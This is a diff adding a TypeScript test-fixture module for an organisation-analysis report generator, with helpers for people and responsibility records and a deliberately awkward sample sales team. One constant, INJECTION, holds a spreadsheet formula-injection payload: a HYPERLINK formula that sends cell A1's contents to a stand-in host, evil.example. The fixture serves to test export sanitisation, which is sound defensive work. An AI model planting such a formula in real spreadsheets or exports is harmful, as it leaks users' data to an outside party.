@@ -1,0 +1,110 @@
+import { analyzeSnapshot, snapshotFromRecords } from '@rolemap/analysis';
+import type { AnalysisResult } from '@rolemap/analysis';
+import { DEFAULT_POLICY, type PeopleRecord, type ResponsibilityRecord, type SnapshotData, type ValueLevel } from '@rolemap/domain';
+import { DEFAULT_DEMO_AS_OF, generateDemoOrg } from '@rolemap/demo-data';
+import { PassThrough, type Writable } from 'node:stream';
+import type { ReportOptions, ReportReviewInput } from '../model/report-types';
+
+export interface ReportInputs {
+  snapshot: SnapshotData;
+  analysis: AnalysisResult;
+  policy: typeof DEFAULT_POLICY;
+  options: ReportOptions;
+}
+
+/** The demo organization, imported and analysed the way the app does it. */
+export function demoInputs(reviews?: ReadonlyMap<string, ReportReviewInput>): ReportInputs {
+  const org = generateDemoOrg();
+  return inputsFrom(org.people, org.responsibilities, org.name, reviews, DEFAULT_DEMO_AS_OF);
+}
+
+export function inputsFrom(
+  people: readonly PeopleRecord[],
+  responsibilities: readonly ResponsibilityRecord[],
+  organizationName = 'Test Org',
+  reviews?: ReadonlyMap<string, ReportReviewInput>,
+  asOf = '2026-11-01',
+): ReportInputs {
+  let next = 0;
+  const snapshot = snapshotFromRecords(people, responsibilities, {
+    organizationId: 'org-test',
+    snapshotId: 'snap-test',
+    asOf,
+    newId: () => `id-${++next}`,
+  });
+  const analysis = analyzeSnapshot(snapshot, DEFAULT_POLICY);
+  return { snapshot, analysis, policy: DEFAULT_POLICY, options: { organizationName, snapshotVersion: 3, asOf, reviews } };
+}
+
+let row = 1;
+/** A people record with readable defaults; `vacant` posts get no name. */
+export function person(employeeId: string, title: string, managerId: string | null, extra: Partial<PeopleRecord> = {}): PeopleRecord {
+  return {
+    rowNumber: ++row,
+    employeeId,
+    name: extra.vacant ? '' : `Person ${employeeId}`,
+    title,
+    managerId,
+    department: 'Engineering',
+    location: 'Berlin',
+    email: null,
+    hireDate: '2018-01-01',
+    roleStartDate: '2020-01-01',
+    previousTitle: null,
+    lastPromotionDate: null,
+    performanceRating: 3,
+    fte: 1,
+    vacant: false,
+    ...extra,
+  };
+}
+
+export function duty(employeeId: string, responsibility: string, valueLevel: ValueLevel, sharePct: number, since: string | null = '2021-01-01'): ResponsibilityRecord {
+  return { rowNumber: ++row, employeeId, responsibility, description: null, valueLevel, sharePct, since };
+}
+
+/** Collects what a writer streams, as a real file or HTTP response would receive it. */
+export function collect(): { out: Writable; done: Promise<Buffer> } {
+  const out = new PassThrough();
+  const chunks: Buffer[] = [];
+  out.on('data', (chunk: Buffer) => chunks.push(chunk));
+  const done = new Promise<Buffer>((resolve, reject) => {
+    out.on('end', () => resolve(Buffer.concat(chunks)));
+    out.on('error', reject);
+  });
+  return { out, done };
+}
+
+export const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")';
+export const AWKWARD_TITLE = 'Review "big" deals, weekly\nand report back';
+export const PIPE_TITLE = 'Own the *core* API | v2';
+
+/**
+ * A small team whose file carries hostile and awkward text: a formula injection, a title with
+ * quotes, a comma and a line break, Markdown syntax, plus a vacant post, a role without
+ * responsibilities and a director who holds hands-on work (delegation gaps).
+ */
+export function awkwardInputs(): ReportInputs {
+  return inputsFrom(
+    [
+      person('D1', 'Director of Sales', null, { name: 'Dana Reyes', department: 'Sales', lastPromotionDate: '2025-06-01' }),
+      person('M1', 'Sales Manager', 'D1', { name: 'Zoë Łukasiewicz', department: 'Sales' }),
+      person('S1', 'Account Executive', 'M1', { name: 'Sam Okafor', department: 'Sales' }),
+      person('S2', 'Account Executive', 'M1', { name: 'Ana Silva', department: 'Sales' }),
+      person('V1', 'Account Executive', 'M1', { vacant: true, department: 'Sales' }),
+      person('E1', 'Sales Engineer', 'D1', { name: 'Eli Novak', department: 'Sales' }),
+    ],
+    [
+      duty('D1', 'Set the sales strategy', 'LEADERSHIP', 20, '2025-07-01'),
+      duty('D1', INJECTION, 'IMPLEMENTATION', 30, '2023-01-01'),
+      duty('D1', AWKWARD_TITLE, 'IMPLEMENTATION', 20, '2022-05-01'),
+      duty('D1', 'Report the forecast to the board', 'COMMUNICATION', 30, '2025-07-01'),
+      duty('M1', 'Coach account executives', 'LEADERSHIP', 20),
+      duty('M1', 'Plan territories', 'UNIFICATION', 40),
+      duty('M1', PIPE_TITLE, 'IMPLEMENTATION', 30),
+      duty('S1', 'Run customer demos', 'IMPLEMENTATION', 50),
+      duty('S2', 'Negotiate renewals', 'IMPLEMENTATION', 40),
+    ],
+    'Acme, "Sales" & Co',
+  );
+}
